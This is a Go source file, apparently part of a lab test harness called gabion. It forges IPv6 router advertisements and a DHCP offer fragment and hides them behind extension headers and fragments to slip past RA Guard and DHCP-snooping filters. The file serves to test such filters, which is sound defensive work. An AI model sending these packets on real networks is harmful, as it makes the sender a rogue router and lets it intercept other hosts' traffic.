package forge

import (
	"encoding/binary"

	"github.com/gabion/gabion"
	"github.com/gabion/gabion/internal/lab"
	"github.com/gabion/gabion/test/frame"
)

// Forgeries of what RouterAdvertisement and DHCPOffer say, behind what a filter
// may not look through. A victim's kernel does.
var (
	// RABehindOptions has destination options before the advertisement.
	RABehindOptions = hidden("a router advertisement behind destination options", frame.Options(frame.Destination, 0))

	// RABehindManyHeaders has more headers before it than any honest packet.
	RABehindManyHeaders = hidden("a router advertisement behind nine extension headers",
		frame.Options(frame.Destination, 0), frame.Options(frame.Destination, 0), frame.Options(frame.Destination, 0),
		frame.Options(frame.Destination, 0), frame.Options(frame.Destination, 0), frame.Options(frame.Destination, 0),
		frame.Options(frame.Destination, 0), frame.Options(frame.Destination, 0), frame.Options(frame.Destination, 0))

	// RAAtomic is whole, behind a fragment header.
	RAAtomic = hidden("a router advertisement in an atomic fragment", frame.Piece(1, 0, false))

	// RAAtomicBehindOptions joins both.
	RAAtomicBehindOptions = hidden("a router advertisement in an atomic fragment behind destination options",
		frame.Options(frame.Destination, 0), frame.Piece(2, 0, false))

	// RAFirstFragment holds destination options alone. The advertisement follows in
	// RALastFragment.
	RAFirstFragment = Forgery{"the first fragment of a router advertisement", func(from, victim *lab.Endpoint) ([]byte, error) {
		return fromRouter(from, victim, frame.Destination, padding(uint8(gabion.ICMPv6)), frame.Piece(3, 0, true)), nil
	}}

	// RALastFragment holds the advertisement, behind where a filter looks for it.
	RALastFragment = Forgery{"the last fragment of a router advertisement", func(from, victim *lab.Endpoint) ([]byte, error) {
		return fromRouter(from, victim, frame.Destination, advertisement(from), frame.Piece(3, len(padding(0)), false)), nil
	}}

	// DHCPFragment is the first fragment of a DHCP offer, and DHCP by its ports alone.
	DHCPFragment = Forgery{"the first fragment of a DHCP offer", func(from, victim *lab.Endpoint) ([]byte, error) {
		offer := frame.UDP{Source: frame.DHCPServer, Destination: frame.DHCPClient, Payload: frame.DHCP(2, victim.MAC)}
		return ipv4(from, victim, frame.IPv4{ID: 1, More: true, Protocol: uint8(gabion.UDP), Payload: offer.Bytes()[:64]}), nil
	}}
)

// Evasion are all that hide.
var Evasion = []Forgery{
	RABehindOptions, RABehindManyHeaders, RAAtomic, RAAtomicBehindOptions, RAFirstFragment, RALastFragment, DHCPFragment,
}

func hidden(name string, behind ...frame.Extension) Forgery {
	return Forgery{name, func(from, victim *lab.Endpoint) ([]byte, error) {
		return fromRouter(from, victim, uint8(gabion.ICMPv6), advertisement(from), behind...), nil
	}}
}

// fromRouter goes to the victim alone, or it would be stopped as a multicast.
func fromRouter(from, victim *lab.Endpoint, protocol uint8, payload []byte, behind ...frame.Extension) []byte {
	return frame.Ethernet{
		Destination: victim.MAC, Source: from.MAC, Kind: frame.KindIPv6,
		Payload: frame.IPv6{
			Source: from.MAC.LinkLocal(), Destination: victim.MAC.LinkLocal(), HopLimit: 255,
			Extensions: behind, Protocol: protocol, Payload: payload,
		}.Bytes(),
	}.Bytes()
}

// advertisement makes the sender a router for half an hour.
func advertisement(from *lab.Endpoint) []byte {
	const lifetime = 1800
	head := []byte{frame.RouterAdvertisement, 0, 0, 0, 64, 0, lifetime >> 8, lifetime & 0xff, 0, 0, 0, 0, 0, 0, 0, 0}
	return append(head, frame.LinkLayer(frame.SourceLinkLayer, from.MAC)...)
}

// padding is a whole destination options header before that protocol.
func padding(next uint8) []byte {
	return append([]byte{next}, frame.Options(frame.Destination, 0).Body...)
}

// ipv4 is honest about who sends it to whom. Its checksum is right: a bridge may
// look at it.
func ipv4(from, victim *lab.Endpoint, p frame.IPv4) []byte {
	p.Source, p.Destination = from.Addr4, victim.Addr4
	packet := p.Bytes()
	sum := uint32(0)
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(packet[i:]))
	}
	binary.BigEndian.PutUint16(packet[10:], ^uint16(sum+sum>>16))
	return frame.Ethernet{Destination: victim.MAC, Source: from.MAC, Kind: frame.KindIPv4, Payload: packet}.Bytes()
}

// ipv6 is honest about who sends it to whom.
func ipv6(from, victim *lab.Endpoint, p frame.IPv6) []byte {
	p.Source, p.Destination = from.Addr6, victim.Addr6
	return frame.Ethernet{Destination: victim.MAC, Source: from.MAC, Kind: frame.KindIPv6, Payload: p.Bytes()}.Bytes()
}
